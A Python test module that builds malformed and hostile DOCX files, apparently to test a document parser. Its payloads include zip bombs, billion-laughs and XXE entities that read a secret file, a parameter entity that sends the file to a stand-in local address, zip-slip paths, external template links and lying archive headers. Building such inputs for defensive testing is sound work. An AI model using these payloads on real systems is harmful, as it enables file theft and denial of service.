"""Hostile archives: DOCX files that unpack without end, point elsewhere, or lie."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Iterator, Mapping
from html import escape

from tests.campaigns.documents.hostile import SECRET_FILE, Hostile

OFFICE = "http://schemas.openxmlformats.org"
TYPES = (
    f'<Types xmlns="{OFFICE}/package/2006/content-types"><Default Extension="rels" ContentType='
    '"application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/><Override PartName='
    '"/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
    'wordprocessingml.document.main+xml"/><Override PartName="/docProps/core.xml" ContentType='
    '"application/vnd.openxmlformats-package.core-properties+xml"/></Types>'
)
RELATIONS = (
    f'<Relationships xmlns="{OFFICE}/package/2006/relationships"><Relationship Id="a" Type='
    f'"{OFFICE}/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>'
    f'<Relationship Id="b" Type="{OFFICE}/package/2006/relationships/metadata/core-properties"'
    ' Target="docProps/core.xml"/></Relationships>'
)
DOCUMENT = "word/document.xml"
OPEN = f'<w:document xmlns:w="{OFFICE}/wordprocessingml/2006/main"><w:body>'
CLOSE = "</w:body></w:document>"
STORY = "The yak Ysolde was born in the zoo of Larnmouth in 2017."
MEGABYTE = 1_000_000
LAUGHS = "".join(f"<!ENTITY l{n} '{f'&l{n - 1};' * 10}'>" for n in range(1, 10))
LAUGHTER = f"<!DOCTYPE a [<!ENTITY l0 'ha'>{LAUGHS}]>"
ENTITY = f'<!DOCTYPE a [<!ENTITY x SYSTEM "file://{SECRET_FILE}">]>'
PARAMETER = (
    f'<!DOCTYPE a [<!ENTITY % f SYSTEM "file://{SECRET_FILE}"><!ENTITY % e '
    "\"<!ENTITY &#x25; s SYSTEM 'http://127.0.0.1:9/?%f;'>\">%e;%s;]>"
)


def paragraph(text: str) -> str:
    """Return a paragraph of a DOCX file, as XML; what XML cannot hold is left out."""
    shown = "".join(c for c in text if c >= " " or c in "\t\n")
    return f"<w:p><w:r><w:t>{escape(shown)}</w:t></w:r></w:p>"


def docx(body: str, *, title: str = "", author: str = "", before: str = "") -> bytes:
    """Return a DOCX file written by hand, since no library writes a hostile one.

    Args:
        body: what its body holds, as XML.
        title, author: what its properties say.
        before: what stands before its root element, as a document type.
    """
    return _zip(
        {DOCUMENT: f"{before}{OPEN}{body}{CLOSE}", "docProps/core.xml": core(title, author)}
    )


def docx_of(document: bytes) -> bytes:
    """Return a DOCX file around the bytes of its document, whatever they are."""
    return _zip({DOCUMENT: document})


def core(title: str, author: str) -> str:
    """Return the properties of a DOCX file, as XML."""
    title, author = ("".join(c for c in x if c >= " ") for x in (title, author))
    return (
        f'<cp:coreProperties xmlns:cp="{OFFICE}/package/2006/metadata/core-properties" '
        'xmlns:dc="http://purl.org/dc/elements/1.1/">'
        f"<dc:title>{escape(title)}</dc:title><dc:creator>{escape(author)}</dc:creator>"
        "</cp:coreProperties>"
    )


def _zip(parts: Mapping[str, str | bytes]) -> bytes:
    out = io.BytesIO()
    whole: dict[str, str | bytes] = {"[Content_Types].xml": TYPES, "_rels/.rels": RELATIONS}
    whole |= {"docProps/core.xml": core("", ""), **parts}
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in whole.items():
            archive.writestr(name, content)
    return out.getvalue()


def archives(*, small: bool = False) -> Iterator[Hostile]:
    """Yield hostile DOCX files; ``small`` limits what they unpack to."""
    yield from _bombs(100 if small else 1_000, 20_000 if small else 500_000)
    yield from _entities()
    yield from _elsewhere()
    yield from _tables(10 if small else 100)
    yield from _lies()


def _bombs(megabytes: int, entries: int) -> Iterator[Hostile]:
    for idea, filler in (("spaces", " "), ("paragraphs", "<w:p/>"), ("breaks", "<w:br/>")):
        raw = _streamed(filler, megabytes)
        yield Hostile(f"unpacks to {megabytes} MB of {idea}", f"bomb-{idea}.docx", raw)
    yield Hostile("an archive of very many entries", "entries.docx", _many_entries(entries))
    nested = docx(paragraph(STORY))
    for _ in range(20):
        nested = _zip({"word/embeddings/a.docx": nested, DOCUMENT: OPEN + paragraph("") + CLOSE})
    yield Hostile("archives in archives", "nested.docx", nested)
    deep = "<w:ins>" * 100_000 + "</w:ins>" * 100_000
    yield Hostile("elements 100,000 deep", "deep.docx", docx(paragraph(STORY) + deep))


def _streamed(filler: str, megabytes: int) -> bytes:
    """Return a DOCX file whose text is one thing without end, never held unpacked."""
    out = io.BytesIO()
    block = (filler * (MEGABYTE // len(filler))).encode()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", TYPES)
        archive.writestr("_rels/.rels", RELATIONS)
        archive.writestr("docProps/core.xml", core("", ""))
        with archive.open(DOCUMENT, "w") as part:
            part.write((OPEN + paragraph(STORY)).encode())
            for _ in range(megabytes):
                part.write(block)
            part.write(CLOSE.encode())
    return out.getvalue()


def _many_entries(count: int) -> bytes:
    """Return a directory that names one entry over and over."""
    entry = struct.pack(
        "<4s6H3I5H2I1s", b"PK\1\2", 20, 20, *(0,) * 4, *(0,) * 3, 1, *(0,) * 4, 0, 0, b"a"
    )
    end = struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, 65_535, 65_535, len(entry) * count, 0, 0)
    return entry * count + end


def _entities() -> Iterator[Hostile]:
    for idea, before in (("laughs", LAUGHTER), ("a file", ENTITY), ("a parameter", PARAMETER)):
        entity = "&l9;" if idea == "laughs" else "&x;"
        body = paragraph(STORY) + f"<w:p><w:r><w:t>{entity}</w:t></w:r></w:p>"
        raw = docx(body, before=before)
        yield Hostile(f"an entity of {idea} in DOCX", f"entity-{idea[-4:]}.docx", raw)
        parts = {DOCUMENT: OPEN + paragraph(STORY) + CLOSE}
        parts["docProps/core.xml"] = before + core("", "").replace(
            "<dc:title>", f"<dc:title>{entity}"
        )
        yield Hostile(f"an entity of {idea} in properties", f"core-{idea[-4:]}.docx", _zip(parts))
    parts = {DOCUMENT: OPEN + paragraph(STORY) + CLOSE, "[Content_Types].xml": ENTITY + TYPES}
    yield Hostile("an entity among the types", "types.docx", _zip(parts))


def _elsewhere() -> Iterator[Hostile]:
    address = "http://127.0.0.1:9/template.dotx"
    kinds = ("attachedTemplate", "image", "hyperlink", "subDocument", "oleObject", "frame")
    relations = "".join(
        f'<Relationship Id="r{n}" Type="{OFFICE}/officeDocument/2006/relationships/{kind}"'
        f' TargetMode="External" Target="{target}"/>'
        for n, (kind, target) in enumerate(
            (kind, target) for kind in kinds for target in (address, f"file://{SECRET_FILE}")
        )
    )
    inner = (
        f'<Relationships xmlns="{OFFICE}/package/2006/relationships">{relations}</Relationships>'
    )
    parts = {DOCUMENT: OPEN + paragraph(STORY) + CLOSE, "word/_rels/document.xml.rels": inner}
    yield Hostile("templates and pictures from elsewhere", "elsewhere.docx", _zip(parts))
    for idea, target in (
        ("out of the archive", f"../../../../..{SECRET_FILE}"),
        ("at itself", "document.xml"),
        ("at nothing", "nothing.xml"),
    ):
        own = inner.replace(' TargetMode="External"', "").replace(address, target)
        parts["word/_rels/document.xml.rels"] = own.replace(f"file://{SECRET_FILE}", target)
        yield Hostile(f"parts that point {idea}", f"points-{idea[-4:]}.docx", _zip(parts))
    slip = {f"..{'/..' * n}{SECRET_FILE}": "overwritten" for n in range(4)}
    yield Hostile("names that lead out", "slip.docx", _zip({**slip, DOCUMENT: OPEN + CLOSE}))


def _tables(thousands: int) -> Iterator[Hostile]:
    cell = "<w:tc>{}<w:p><w:r><w:t>yak</w:t></w:r></w:p></w:tc>"
    for span in (10_000 * thousands * thousands, 2**31, -1):
        wide = cell.format(f'<w:tcPr><w:gridSpan w:val="{span}"/></w:tcPr>')
        body = f"{paragraph(STORY)}<w:tbl><w:tr>{wide}</w:tr></w:tbl>"
        yield Hostile(f"a cell {span} columns wide", f"wide{span}.docx", docx(body))
    rows = f"<w:tr>{cell.format('<w:tcPr><w:vMerge/></w:tcPr>')}</w:tr>"
    first = f"<w:tr>{cell.format('')}</w:tr>"
    body = f"{paragraph(STORY)}<w:tbl>{first}{rows * 300 * thousands}</w:tbl>"
    yield Hostile("a cell many rows high", "high.docx", docx(body))
    body = f"<w:tbl>{rows * 3}</w:tbl>{paragraph(STORY)}"
    yield Hostile("a cell merged with no row above", "above.docx", docx(body))
    columns = f"<w:tbl><w:tr>{cell.format('') * 1_000 * thousands}</w:tr></w:tbl>"
    yield Hostile("a row of very many cells", "row.docx", docx(paragraph(STORY) + columns))


def _lies() -> Iterator[Hostile]:
    raw = docx(paragraph(STORY))
    yield Hostile("an archive cut short", "short.docx", raw[: len(raw) // 2])
    at = raw.rindex(b"PK\1\2")
    for idea, offset, size in (("small", 24, 10), ("huge", 24, 2**32 - 2), ("packed", 20, 2**31)):
        lie = raw[: at + offset] + struct.pack("<I", size) + raw[at + offset + 4 :]
        yield Hostile(f"a size that is a lie ({idea})", f"lie-{idea}.docx", lie)
    locked = bytearray(raw)
    locked[raw.index(b"PK\1\2") + 8] |= 1
    yield Hostile("an entry with a password", "locked.docx", bytes(locked))
    yield Hostile("an archive of no document", "empty.docx", _zip({}))
    yield Hostile("a document that is no XML", "noxml.docx", _zip({DOCUMENT: b"\0\xff" * 500}))
    script = OPEN.replace("<w:document", "<?xml-stylesheet href='a.xsl'?><w:document")
    styled = _zip({DOCUMENT: script + paragraph(STORY) + CLOSE})
    yield Hostile("a style sheet for the document", "styled.docx", styled)
